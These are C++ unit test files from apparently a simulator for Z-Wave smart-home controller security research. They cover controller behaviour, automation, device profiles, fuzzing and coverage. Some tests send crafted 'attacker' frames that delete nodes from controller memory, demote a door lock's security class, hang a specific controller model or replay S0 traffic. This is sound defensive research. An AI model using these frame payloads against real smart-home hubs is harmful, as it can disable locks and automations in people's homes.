  h.send(app_of(0x86, 0x11));
  h.send(app_of(0x86, 0x11));
  h.send(app_of(0x86, 0x00));  // rejected: not counted
  const auto& pairs = h.controller().stats().accepted_pairs;
  EXPECT_TRUE(pairs.contains({0x86, 0x11}));
  EXPECT_FALSE(pairs.contains({0x86, 0x00}));
}

TEST(ControllerTest, MacQuirkFiresOnAffectedModelOnly) {
  // Quirk 104: broadcast-addressed singlecast demanding ack (D4 only).
  for (const auto model : {DeviceModel::kD4_AeotecZw090, DeviceModel::kD1_ZoozZst10}) {
    TestbedConfig config;
    config.controller_model = model;
    Testbed testbed(config);
    radio::MacEndpoint attacker(testbed.medium(),
                                testbed.attacker_radio_config("attacker"));
    zwave::MacFrame frame = zwave::make_singlecast(
        testbed.controller().home_id(), 0xE7, zwave::kBroadcastNodeId, app_of(0x20, 0x02),
        1, true);
    attacker.send(frame);
    testbed.scheduler().run_for(100 * kMillisecond);
    const bool should_fire = model == DeviceModel::kD4_AeotecZw090;
    EXPECT_EQ(!testbed.controller().triggered().empty(), should_fire)
        << device_model_name(model);
    if (should_fire) {
      EXPECT_EQ(testbed.controller().triggered()[0].bug_id, 104);
      EXPECT_FALSE(testbed.controller().responsive());
    }
  }
}

TEST(ControllerTest, RetransmissionIsAckedButNotReprocessed) {
  ControllerHarness h;
  // Two identical frames with the same sequence: a classic retry after a
  // lost ack. The VERSION GET must be answered once, acked twice.
  zwave::AppPayload version_get = app_of(0x86, 0x11);
  const zwave::MacFrame frame = zwave::make_singlecast(
      h.controller().home_id(), ControllerHarness::kAttackerNode, 0x01, version_get, 9, true);
  radio::MacEndpoint attacker(h.testbed().medium(),
                              h.testbed().attacker_radio_config("retry"));
  attacker.send(frame);
  h.testbed().scheduler().run_for(100 * kMillisecond);
  attacker.send(frame);  // retransmission
  h.testbed().scheduler().run_for(100 * kMillisecond);

  EXPECT_EQ(h.controller().stats().duplicates_dropped, 1u);
  EXPECT_EQ(h.controller().stats().app_payloads, 1u);
}

TEST(ControllerTest, NewSequenceIsProcessedNormally) {
  ControllerHarness h;
  h.send(app_of(0x86, 0x11));
  h.send(app_of(0x86, 0x11));  // harness increments the sequence
  EXPECT_EQ(h.controller().stats().duplicates_dropped, 0u);
  EXPECT_EQ(h.controller().stats().app_payloads, 2u);
}

TEST(ControllerTest, NodeListReportContainsMembers) {
  ControllerHarness h;
  h.send(app_of(0x52, 0x01, {0x01}));
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  ASSERT_EQ(reply->cmd_class, 0x52);
  ASSERT_EQ(reply->command, 0x02);
  // Mask starts at params[3]; nodes 1, 2, 3 are bits 0-2 of the first byte.
  ASSERT_GE(reply->params.size(), 4u);
  EXPECT_EQ(reply->params[3] & 0x07, 0x07);
}

TEST(ControllerTest, MultiCmdEncapsulationDispatchesInner) {
  ControllerHarness h;
  // MULTI_CMD wrapping a VERSION GET.
  h.send(app_of(0x8F, 0x01, {0x01, 0x02, 0x86, 0x11}));
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->cmd_class, 0x86);
  EXPECT_EQ(reply->command, 0x12);
}

TEST(ControllerTest, CrcEncapValidatesChecksum) {
  ControllerHarness h;
  Bytes covered = {0x56, 0x01, 0x86, 0x11};
  const std::uint16_t crc = zwave::crc16_ccitt(covered);
  Bytes params = {0x86, 0x11};
  write_be16(params, crc);
  h.send(app_of(0x56, 0x01, params));
  const auto reply = h.last_reply();
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->cmd_class, 0x86);

  // Broken CRC: silently dropped.
  h.clear();
  params[params.size() - 1] ^= 0xFF;
  h.send(app_of(0x56, 0x01, params));
  const auto no_reply = h.last_reply();
  EXPECT_TRUE(!no_reply.has_value() || no_reply->cmd_class != 0x86);
}

}  // namespace
}  // namespace zc::sim
