// Automation engine: the controller's routine execution, and how the
// paper's memory-tampering attacks break it.
#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::sim {
namespace {

VirtualController::AutomationRule motion_lights_rule() {
  VirtualController::AutomationRule rule;
  rule.trigger_node = Testbed::kS0SensorNodeId;
  rule.trigger_class = 0x30;  // SENSOR_BINARY REPORT
  rule.trigger_command = 0x03;
  rule.trigger_value = 0xFF;  // motion detected
  rule.action_node = Testbed::kSwitchNodeId;
  rule.action.cmd_class = 0x25;  // SWITCH_BINARY SET on
  rule.action.command = 0x01;
  rule.action.params = {0xFF};
  return rule;
}

TEST(AutomationTest, MotionTurnsOnTheLights) {
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  testbed.controller().add_automation(motion_lights_rule());
  ASSERT_FALSE(testbed.smart_switch()->on());

  // The sensor's secure reports alternate motion on/off; the first report
  // (motion=false) must not fire, the second (motion=true) must.
  testbed.scheduler().run_for(50 * kSecond);
  EXPECT_GE(testbed.controller().automations_fired(), 1u);
  EXPECT_TRUE(testbed.smart_switch()->on());
}

TEST(AutomationTest, TriggerValueFilters) {
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  auto rule = motion_lights_rule();
  rule.trigger_value = 0x55;  // a value the sensor never reports
  testbed.controller().add_automation(rule);
  testbed.scheduler().run_for(60 * kSecond);
  EXPECT_EQ(testbed.controller().automations_fired(), 0u);
  EXPECT_FALSE(testbed.smart_switch()->on());
}

TEST(AutomationTest, RemovedDeviceBreaksTheRoutine) {
  // Bug #03's user-facing impact (paper: "could disable door automation,
  // ... disrupt automation sequences").
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  testbed.controller().add_automation(motion_lights_rule());

  // The attacker removes the switch from the controller's memory first.
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload remove;
  remove.cmd_class = 0x01;
  remove.command = 0x0D;
  remove.params = {0x02, Testbed::kSwitchNodeId, 0x00};
  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7, 0x01, remove,
                                       1, false));
  testbed.scheduler().run_for(100 * kMillisecond);
  ASSERT_EQ(testbed.controller().node_table().find(Testbed::kSwitchNodeId), nullptr);

  testbed.scheduler().run_for(60 * kSecond);
  EXPECT_EQ(testbed.controller().automations_fired(), 0u);
  EXPECT_GE(testbed.controller().automations_blocked(), 1u);
  EXPECT_FALSE(testbed.smart_switch()->on());
}

TEST(AutomationTest, S2ActionRidesTheSecureSession) {
  // A routine that locks the door on motion: the action must travel S2
  // (the lock ignores plaintext).
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  testbed.door_lock()->set_locked(false);

  VirtualController::AutomationRule rule;
  rule.trigger_node = Testbed::kS0SensorNodeId;
  rule.trigger_class = 0x30;
  rule.trigger_command = 0x03;
  rule.trigger_value = 0xFF;
  rule.action_node = Testbed::kLockNodeId;
  rule.action.cmd_class = 0x62;  // DOOR_LOCK OPERATION_SET secured
  rule.action.command = 0x01;
  rule.action.params = {0xFF};
  testbed.controller().add_automation(rule);

  testbed.scheduler().run_for(50 * kSecond);
  EXPECT_GE(testbed.controller().automations_fired(), 1u);
  EXPECT_TRUE(testbed.door_lock()->locked());
}

TEST(AutomationTest, CorruptedS2PropertiesBlockSecureActions) {
  // Bug #01 demotes the lock's security class: the controller refuses to
  // send the (now-impossible) secure action rather than downgrading it to
  // plaintext.
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  testbed.door_lock()->set_locked(false);

  VirtualController::AutomationRule rule;
  rule.trigger_node = Testbed::kS0SensorNodeId;
  rule.trigger_class = 0x30;
  rule.trigger_command = 0x03;
  rule.trigger_value = 0xFF;
  rule.action_node = Testbed::kLockNodeId;
  rule.action.cmd_class = 0x62;
  rule.action.command = 0x01;
  rule.action.params = {0xFF};
  testbed.controller().add_automation(rule);

  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload corrupt;
  corrupt.cmd_class = 0x01;
  corrupt.command = 0x0D;
  corrupt.params = {0x00, Testbed::kLockNodeId, 0x00};  // bug #01
  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7, 0x01, corrupt,
                                       1, false));
  testbed.scheduler().run_for(100 * kMillisecond);

  testbed.scheduler().run_for(60 * kSecond);
  // The demoted record (security=None) routes the action as plaintext,
  // which the real lock ignores: the door stays unlocked.
  EXPECT_FALSE(testbed.door_lock()->locked());
}

}  // namespace
}  // namespace zc::sim
