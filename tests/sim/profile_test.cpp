#include "sim/profile.h"

#include <gtest/gtest.h>

#include <set>

#include "zwave/command_class.h"

namespace zc::sim {
namespace {

TEST(ProfileTest, SevenControllers) {
  EXPECT_EQ(all_controller_models().size(), 7u);
}

TEST(ProfileTest, HomeIdsMatchTableIV) {
  const std::pair<DeviceModel, zwave::HomeId> expected[] = {
      {DeviceModel::kD1_ZoozZst10, 0xE7DE3F3D},  {DeviceModel::kD2_SilabsUzb7, 0xCD007171},
      {DeviceModel::kD3_NortekHusbzb1, 0xCB51722D}, {DeviceModel::kD4_AeotecZw090, 0xC7E9DD54},
      {DeviceModel::kD5_ZwaveMeUzb1, 0xF4C3754D}, {DeviceModel::kD6_SamsungWv520, 0xCB95A34A},
      {DeviceModel::kD7_SamsungSth200, 0xEDC87EE4}};
  for (const auto& [model, home] : expected) {
    EXPECT_EQ(controller_profile(model).home_id, home) << device_model_name(model);
  }
}

TEST(ProfileTest, ListedCountsMatchTableIV) {
  // D1/D2/D4/D6 list 17 classes; D3/D5/D7 list 15.
  EXPECT_EQ(controller_profile(DeviceModel::kD1_ZoozZst10).listed.size(), 17u);
  EXPECT_EQ(controller_profile(DeviceModel::kD2_SilabsUzb7).listed.size(), 17u);
  EXPECT_EQ(controller_profile(DeviceModel::kD3_NortekHusbzb1).listed.size(), 15u);
  EXPECT_EQ(controller_profile(DeviceModel::kD4_AeotecZw090).listed.size(), 17u);
  EXPECT_EQ(controller_profile(DeviceModel::kD5_ZwaveMeUzb1).listed.size(), 15u);
  EXPECT_EQ(controller_profile(DeviceModel::kD6_SamsungWv520).listed.size(), 17u);
  EXPECT_EQ(controller_profile(DeviceModel::kD7_SamsungSth200).listed.size(), 15u);
}

TEST(ProfileTest, ListedPlusUnknownEqualsFortyFive) {
  // Table IV/V arithmetic: listed + unknown = the 45-class cluster.
  const auto cluster = zwave::SpecDatabase::instance().controller_cluster(true);
  const std::set<zwave::CommandClassId> cluster_set(cluster.begin(), cluster.end());
  for (DeviceModel model : all_controller_models()) {
    const auto& profile = controller_profile(model);
    for (zwave::CommandClassId cc : profile.listed) {
      EXPECT_TRUE(cluster_set.contains(cc))
          << device_model_name(model) << " lists non-cluster class " << int(cc);
    }
    EXPECT_EQ(45u - profile.listed.size(),
              profile.listed.size() == 17 ? 28u : 30u);
  }
}

TEST(ProfileTest, ListedClassesAreUnique) {
  for (DeviceModel model : all_controller_models()) {
    const auto& listed = controller_profile(model).listed;
    const std::set<zwave::CommandClassId> unique(listed.begin(), listed.end());
    EXPECT_EQ(unique.size(), listed.size()) << device_model_name(model);
  }
}

TEST(ProfileTest, HubFlagsMatchTableII) {
  EXPECT_FALSE(controller_profile(DeviceModel::kD1_ZoozZst10).hub);
  EXPECT_FALSE(controller_profile(DeviceModel::kD5_ZwaveMeUzb1).hub);
  EXPECT_TRUE(controller_profile(DeviceModel::kD6_SamsungWv520).hub);
  EXPECT_TRUE(controller_profile(DeviceModel::kD7_SamsungSth200).hub);
}

TEST(ProfileTest, DispatchTableHas53Pairs) {
  // Table V's "CMD" coverage column for ZCover.
  EXPECT_EQ(firmware_handled_pair_count(), 53u);
}

TEST(ProfileTest, DispatchClassesAreClusterMembers) {
  const auto cluster = zwave::SpecDatabase::instance().controller_cluster(true);
  const std::set<zwave::CommandClassId> cluster_set(cluster.begin(), cluster.end());
  for (const auto& [cc, cmds] : firmware_dispatch_table()) {
    EXPECT_TRUE(cluster_set.contains(cc)) << "class " << int(cc);
    EXPECT_FALSE(cmds.empty());
  }
}

TEST(ProfileTest, DispatchCommandsExistInSpec) {
  const auto& db = zwave::SpecDatabase::instance();
  for (const auto& [cc, cmds] : firmware_dispatch_table()) {
    const auto* spec = db.find(cc);
    ASSERT_NE(spec, nullptr) << "class " << int(cc);
    for (zwave::CommandId cmd : cmds) {
      EXPECT_NE(spec->find_command(cmd), nullptr)
          << "class " << int(cc) << " command " << int(cmd);
    }
  }
}

TEST(ProfileTest, VulnerabilityTriggersAreDispatched) {
  // Every Table III trigger must be a genuinely-processed pair, otherwise
  // the command would be rejected before reaching the flawed code.
  const auto& dispatch = firmware_dispatch_table();
  for (const auto& spec : vulnerability_matrix()) {
    const auto it = dispatch.find(spec.cmd_class);
    ASSERT_NE(it, dispatch.end()) << "bug " << spec.bug_id;
    EXPECT_NE(std::find(it->second.begin(), it->second.end(), spec.command),
              it->second.end())
        << "bug " << spec.bug_id;
  }
}

TEST(ProfileTest, ChipSeriesMatchesTableII) {
  EXPECT_EQ(controller_profile(DeviceModel::kD1_ZoozZst10).chip_series, "700");
  EXPECT_EQ(controller_profile(DeviceModel::kD4_AeotecZw090).chip_series, "500");
}

}  // namespace
}  // namespace zc::sim
