// Whole-controller robustness fuzzing: throw large volumes of random MAC
// frames and application payloads at the firmware and assert its hard
// invariants. The simulated controller must be at least as robust as the
// devices it stands in for — it is the *seeded* flaws that misbehave, not
// the substrate.
#include <gtest/gtest.h>

#include "sim/testbed.h"
#include "zwave/checksum.h"

namespace zc::sim {
namespace {

class ControllerFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ControllerFuzz, SurvivesRandomApplicationPayloads) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD4_AeotecZw090;
  config.seed = GetParam();
  Testbed testbed(config);
  auto& controller = testbed.controller();
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("fuzz"));
  Rng rng(GetParam() ^ 0xF00D);

  for (int i = 0; i < 4000; ++i) {
    zwave::AppPayload payload;
    payload.cmd_class = rng.next_byte();
    payload.command = rng.next_byte();
    payload.params = rng.bytes(static_cast<std::size_t>(rng.uniform(0, 20)));
    attacker.send(zwave::make_singlecast(controller.home_id(), rng.next_byte(), 0x01,
                                         payload, static_cast<std::uint8_t>(i & 0x0F),
                                         rng.chance(0.5)));
    testbed.scheduler().run_for(20 * kMillisecond);
    if (!controller.responsive()) {
      // A seeded outage fired: wait it out (or reset on "Infinite").
      testbed.scheduler().run_for(5 * kMinute);
      if (!controller.responsive()) controller.operator_recover();
    }
  }

  // Invariants: the node table stayed bounded (insertions only through the
  // seeded rogue paths), sessions didn't corrupt, counters are coherent.
  EXPECT_LE(controller.node_table().size(), 16u);
  EXPECT_GE(controller.stats().frames_received, 1000u);
  EXPECT_GE(controller.stats().app_payloads, controller.stats().rejected_commands);
}

TEST_P(ControllerFuzz, SurvivesRawFrameGarbage) {
  TestbedConfig config;
  config.controller_model = DeviceModel::kD2_SilabsUzb7;
  config.seed = GetParam();
  Testbed testbed(config);
  auto& controller = testbed.controller();
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("fuzz"));
  Rng rng(GetParam() ^ 0xCAFE);

  for (int i = 0; i < 4000; ++i) {
    // Raw byte blobs: some with valid checksums, most garbage.
    Bytes blob = rng.bytes(static_cast<std::size_t>(rng.uniform(1, 64)));
    if (rng.chance(0.3) && blob.size() >= 10) {
      // Make the home id + LEN + CS plausible so more reach the MAC.
      blob[0] = static_cast<std::uint8_t>(controller.home_id() >> 24);
      blob[1] = static_cast<std::uint8_t>(controller.home_id() >> 16);
      blob[2] = static_cast<std::uint8_t>(controller.home_id() >> 8);
      blob[3] = static_cast<std::uint8_t>(controller.home_id());
      blob[7] = static_cast<std::uint8_t>(blob.size());
      blob[blob.size() - 1] =
          zwave::checksum8(ByteView(blob.data(), blob.size() - 1));
    }
    attacker.send_raw(blob);
    testbed.scheduler().run_for(15 * kMillisecond);
    if (!controller.responsive()) {
      testbed.scheduler().run_for(5 * kMinute);
      if (!controller.responsive()) controller.operator_recover();
    }
  }
  EXPECT_LE(controller.node_table().size(), 16u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, ControllerFuzz, ::testing::Values(1u, 2u, 3u));

}  // namespace
}  // namespace zc::sim
