#include "sim/coverage.h"

#include <gtest/gtest.h>

namespace zc::sim::cov {
namespace {

TEST(CoverageMapTest, SlotIndexDeterministicAndBounded) {
  for (int cc = 0; cc < 256; cc += 7) {
    for (int cmd = 0; cmd < 256; cmd += 11) {
      const std::size_t slot = CoverageMap::slot_index(
          static_cast<std::uint8_t>(cc), static_cast<std::uint8_t>(cmd), kHandlerCase);
      EXPECT_LT(slot, CoverageMap::kSlots);
      EXPECT_EQ(slot, CoverageMap::slot_index(static_cast<std::uint8_t>(cc),
                                              static_cast<std::uint8_t>(cmd), kHandlerCase));
    }
  }
  // The branch participates in the hash: the same (cc, cmd) lands on
  // distinct slots per branch (for this triple — collisions are legal in
  // general, but these particular inputs must stay stable).
  EXPECT_NE(CoverageMap::slot_index(0x25, 0x01, kDispatchAccepted),
            CoverageMap::slot_index(0x25, 0x01, kDispatchRejected));
}

TEST(CoverageMapTest, RecordCountsHitsAndEdges) {
  CoverageMap map;
  EXPECT_TRUE(map.empty());
  map.record(0x25, 0x01, kDispatchAccepted);
  map.record(0x25, 0x01, kDispatchAccepted);
  map.record(0x86, 0x11, kHandlerCase);
  EXPECT_FALSE(map.empty());
  EXPECT_EQ(map.edges_hit(), 2u);
  EXPECT_EQ(map.total_hits(), 3u);
  EXPECT_EQ(map.hits(CoverageMap::slot_index(0x25, 0x01, kDispatchAccepted)), 2u);
  map.clear();
  EXPECT_TRUE(map.empty());
  EXPECT_EQ(map.edges_hit(), 0u);
}

TEST(CoverageMapTest, FoldIntoCountsOnlyNewEdges) {
  CoverageMap accumulated;
  CoverageMap scratch;
  scratch.record(0x25, 0x01, kDispatchAccepted);
  scratch.record(0x86, 0x11, kHandlerCase);
  EXPECT_EQ(scratch.fold_into(accumulated), 2u);  // both edges are new
  EXPECT_EQ(accumulated.edges_hit(), 2u);

  scratch.clear();
  scratch.record(0x25, 0x01, kDispatchAccepted);  // already accumulated
  scratch.record(0x70, 0x04, kHandlerCase);       // new
  EXPECT_EQ(scratch.fold_into(accumulated), 1u);
  EXPECT_EQ(accumulated.edges_hit(), 3u);
  EXPECT_EQ(accumulated.hits(CoverageMap::slot_index(0x25, 0x01, kDispatchAccepted)), 2u);
}

TEST(CoverageMapTest, MergeAccumulatesAndEqualityIsSlotwise) {
  CoverageMap a;
  CoverageMap b;
  a.record(0x25, 0x01, kDispatchAccepted);
  b.record(0x25, 0x01, kDispatchAccepted);
  EXPECT_TRUE(a == b);
  b.record(0x86, 0x11, kHandlerCase);
  EXPECT_FALSE(a == b);
  a.merge(b);
  EXPECT_EQ(a.total_hits(), 3u);
  EXPECT_EQ(a.edges_hit(), 2u);
}

TEST(CoverageMapTest, ToTextIsCanonical) {
  CoverageMap a;
  CoverageMap b;
  // Different record order, same content -> identical text.
  a.record(0x25, 0x01, kDispatchAccepted);
  a.record(0x86, 0x11, kHandlerCase);
  b.record(0x86, 0x11, kHandlerCase);
  b.record(0x25, 0x01, kDispatchAccepted);
  EXPECT_EQ(a.to_text(), b.to_text());
  b.record(0x86, 0x11, kHandlerCase);
  EXPECT_NE(a.to_text(), b.to_text());
}

TEST(ScopedCoverageTest, InstallsRestoresAndNests) {
  EXPECT_EQ(current_map(), nullptr);
  record(0x25, 0x01, kDispatchAccepted);  // no map installed: a no-op
  CoverageMap outer;
  {
    const ScopedCoverage scoped_outer(outer);
    EXPECT_EQ(current_map(), &outer);
    record(0x25, 0x01, kDispatchAccepted);
    CoverageMap inner;
    {
      const ScopedCoverage scoped_inner(inner);
      EXPECT_EQ(current_map(), &inner);
      record(0x86, 0x11, kHandlerCase);
    }
    EXPECT_EQ(current_map(), &outer);  // previous map restored
    EXPECT_EQ(inner.total_hits(), 1u);
  }
  EXPECT_EQ(current_map(), nullptr);
  EXPECT_EQ(outer.total_hits(), 1u);  // the inner hit never leaked out
}

}  // namespace
}  // namespace zc::sim::cov
