#include "sim/slave.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::sim {
namespace {

TEST(SlaveTest, SwitchRespondsToBinaryGet) {
  TestbedConfig config;
  Testbed testbed(config);
  auto& scheduler = testbed.scheduler();
  radio::MacEndpoint probe(testbed.medium(), testbed.attacker_radio_config("probe"));
  std::vector<zwave::MacFrame> inbox;
  probe.set_frame_handler([&](const zwave::MacFrame& frame, double) {
    if (frame.src == Testbed::kSwitchNodeId) inbox.push_back(frame);
  });

  zwave::AppPayload get;
  get.cmd_class = 0x25;
  get.command = 0x02;
  probe.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7,
                                    Testbed::kSwitchNodeId, get, 1, true));
  scheduler.run_for(200 * kMillisecond);

  bool saw_report = false;
  for (const auto& frame : inbox) {
    const auto app = zwave::decode_app_payload(frame.payload);
    if (app.ok() && app.value().cmd_class == 0x25 && app.value().command == 0x03) {
      saw_report = true;
      EXPECT_EQ(app.value().params[0], 0x00);  // off by default
    }
  }
  EXPECT_TRUE(saw_report);
}

TEST(SlaveTest, SwitchObeysPlaintextSet) {
  // The legacy switch's weakness: anyone can flip it (No Security mode).
  TestbedConfig config;
  Testbed testbed(config);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload set;
  set.cmd_class = 0x25;
  set.command = 0x01;
  set.params = {0xFF};
  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7,
                                       Testbed::kSwitchNodeId, set, 1, false));
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_TRUE(testbed.smart_switch()->on());
}

TEST(SlaveTest, LockIgnoresPlaintextOperation) {
  // The S2 lock refuses unencapsulated commands — the paper's point that
  // the *controller*, not the lock, is the weak link.
  TestbedConfig config;
  Testbed testbed(config);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
  zwave::AppPayload unlock;
  unlock.cmd_class = 0x62;
  unlock.command = 0x01;
  unlock.params = {0x00};
  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7,
                                       Testbed::kLockNodeId, unlock, 1, false));
  testbed.scheduler().run_for(100 * kMillisecond);
  EXPECT_TRUE(testbed.door_lock()->locked());
}

TEST(SlaveTest, PeriodicReportsFlow) {
  TestbedConfig config;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  testbed.scheduler().run_for(65 * kSecond);
  EXPECT_GE(testbed.door_lock()->reports_sent(), 5u);
  // The switch reports on a staggered interval (10 s + 7 s).
  EXPECT_GE(testbed.smart_switch()->reports_sent(), 3u);
}

TEST(SlaveTest, S0SensorRunsNonceHandshakeOverRf) {
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  testbed.scheduler().run_for(80 * kSecond);

  ASSERT_NE(testbed.s0_sensor(), nullptr);
  EXPECT_GE(testbed.s0_sensor()->secure_reports_sent(), 3u);
  // Every encapsulation verified at the controller: nothing failed auth.
  EXPECT_EQ(testbed.controller().stats().auth_failures, 0u);
  // The inner SENSOR_BINARY reports were decapsulated and consumed via the
  // S0 message-encapsulation pair.
  EXPECT_TRUE(testbed.controller().stats().accepted_pairs.contains(
      {zwave::kSecurity0Class, zwave::kS0MessageEncap}));
}

TEST(SlaveTest, S0SensorNonceIsSingleUse) {
  TestbedConfig config;
  config.include_s0_sensor = true;
  config.slave_report_interval = 10 * kSecond;
  Testbed testbed(config);
  // Capture one S0 encapsulation off the air and replay it: the
  // controller's outstanding nonce was consumed, so the replay must fail.
  radio::MacEndpoint sniffer(testbed.medium(), testbed.attacker_radio_config("sniffer"));
  std::optional<zwave::MacFrame> captured;
  sniffer.set_frame_handler([&](const zwave::MacFrame& frame, double) {
    const auto app = zwave::decode_app_payload(frame.payload);
    if (app.ok() && app.value().cmd_class == zwave::kSecurity0Class &&
        app.value().command == zwave::kS0MessageEncap && !captured.has_value()) {
      captured = frame;
    }
  });
  testbed.scheduler().run_for(40 * kSecond);
  ASSERT_TRUE(captured.has_value());
  const auto failures_before = testbed.controller().stats().auth_failures;
  // A replay attacker re-frames the ciphertext under a fresh sequence
  // number (same-sequence copies are discarded as MAC retransmissions).
  zwave::MacFrame replay = *captured;
  replay.sequence = (replay.sequence + 7) & 0x0F;
  sniffer.send(replay);
  testbed.scheduler().run_for(200 * kMillisecond);
  EXPECT_GT(testbed.controller().stats().auth_failures, failures_before);
}

TEST(SlaveTest, LockReportsRideS2) {
  // A sniffer must not see the battery report's plaintext.
  TestbedConfig config;
  config.slave_report_interval = 5 * kSecond;
  Testbed testbed(config);
  radio::MacEndpoint sniffer(testbed.medium(), testbed.attacker_radio_config("sniffer"));
  bool saw_lock_frame = false;
  bool saw_plaintext_battery = false;
  sniffer.set_frame_handler([&](const zwave::MacFrame& frame, double) {
    if (frame.src != Testbed::kLockNodeId) return;
    if (frame.header == zwave::HeaderType::kAck) return;
    saw_lock_frame = true;
    const auto app = zwave::decode_app_payload(frame.payload);
    ASSERT_TRUE(app.ok());
    if (app.value().cmd_class == 0x80) saw_plaintext_battery = true;
    EXPECT_EQ(app.value().cmd_class, zwave::kSecurity2Class);
  });
  testbed.scheduler().run_for(20 * kSecond);
  EXPECT_TRUE(saw_lock_frame);
  EXPECT_FALSE(saw_plaintext_battery);
}

}  // namespace
}  // namespace zc::sim
