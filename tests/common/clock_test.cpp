#include "common/clock.h"

#include <gtest/gtest.h>

#include <vector>

namespace zc {
namespace {

TEST(ClockTest, StartsAtZero) {
  EventScheduler scheduler;
  EXPECT_EQ(scheduler.now(), 0u);
}

TEST(ClockTest, RunUntilAdvancesEvenWithoutEvents) {
  EventScheduler scheduler;
  scheduler.run_until(5 * kSecond);
  EXPECT_EQ(scheduler.now(), 5 * kSecond);
}

TEST(ClockTest, EventsFireInTimestampOrder) {
  EventScheduler scheduler;
  std::vector<int> order;
  scheduler.schedule_at(3 * kSecond, [&] { order.push_back(3); });
  scheduler.schedule_at(1 * kSecond, [&] { order.push_back(1); });
  scheduler.schedule_at(2 * kSecond, [&] { order.push_back(2); });
  scheduler.run_until(10 * kSecond);
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
}

TEST(ClockTest, EqualTimestampsFireFifo) {
  EventScheduler scheduler;
  std::vector<int> order;
  for (int i = 0; i < 10; ++i) {
    scheduler.schedule_at(kSecond, [&order, i] { order.push_back(i); });
  }
  scheduler.run_all();
  for (int i = 0; i < 10; ++i) EXPECT_EQ(order[static_cast<std::size_t>(i)], i);
}

TEST(ClockTest, EventsSeeCorrectNow) {
  EventScheduler scheduler;
  SimTime seen = 0;
  scheduler.schedule_after(42 * kMillisecond, [&] { seen = scheduler.now(); });
  scheduler.run_all();
  EXPECT_EQ(seen, 42 * kMillisecond);
}

TEST(ClockTest, NestedSchedulingWithinRun) {
  EventScheduler scheduler;
  int fired = 0;
  scheduler.schedule_after(kSecond, [&] {
    ++fired;
    scheduler.schedule_after(kSecond, [&] { ++fired; });
  });
  scheduler.run_until(3 * kSecond);
  EXPECT_EQ(fired, 2);
}

TEST(ClockTest, RunUntilStopsAtDeadline) {
  EventScheduler scheduler;
  int fired = 0;
  scheduler.schedule_at(5 * kSecond, [&] { ++fired; });
  scheduler.run_until(4 * kSecond);
  EXPECT_EQ(fired, 0);
  EXPECT_EQ(scheduler.now(), 4 * kSecond);
  scheduler.run_until(5 * kSecond);
  EXPECT_EQ(fired, 1);
}

TEST(ClockTest, PastEventsClampToNow) {
  EventScheduler scheduler;
  scheduler.run_until(10 * kSecond);
  int fired = 0;
  scheduler.schedule_at(1 * kSecond, [&] { ++fired; });  // in the past
  scheduler.run_for(0);
  EXPECT_EQ(fired, 1);
  EXPECT_EQ(scheduler.now(), 10 * kSecond);
}

TEST(ClockTest, FormatSimTime) {
  EXPECT_EQ(format_sim_time(0), "0.000s");
  EXPECT_EQ(format_sim_time(59 * kSecond), "59.000s");
  EXPECT_EQ(format_sim_time(68 * kSecond), "1m08.000s");
  EXPECT_EQ(format_sim_time(4 * kMinute), "4m00.000s");
  EXPECT_EQ(format_sim_time(kHour + 2 * kMinute + 3 * kSecond + 4 * kMillisecond),
            "1h02m03.004s");
}

TEST(ClockTest, PendingCount) {
  EventScheduler scheduler;
  scheduler.schedule_after(kSecond, [] {});
  scheduler.schedule_after(2 * kSecond, [] {});
  EXPECT_EQ(scheduler.pending(), 2u);
  scheduler.run_all();
  EXPECT_EQ(scheduler.pending(), 0u);
}

}  // namespace
}  // namespace zc
