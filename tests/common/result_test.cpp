#include "common/result.h"

#include <gtest/gtest.h>

#include <string>

namespace zc {
namespace {

Result<int> parse_positive(int v) {
  if (v <= 0) return Error{Errc::kBadField, "not positive"};
  return v;
}

TEST(ResultTest, HoldsValue) {
  const Result<int> r = parse_positive(5);
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(static_cast<bool>(r));
  EXPECT_EQ(r.value(), 5);
  EXPECT_EQ(r.code(), Errc::kOk);
}

TEST(ResultTest, HoldsError) {
  const Result<int> r = parse_positive(-1);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, Errc::kBadField);
  EXPECT_EQ(r.error().message, "not positive");
  EXPECT_EQ(r.code(), Errc::kBadField);
}

TEST(ResultTest, ValueOr) {
  EXPECT_EQ(parse_positive(3).value_or(9), 3);
  EXPECT_EQ(parse_positive(-3).value_or(9), 9);
}

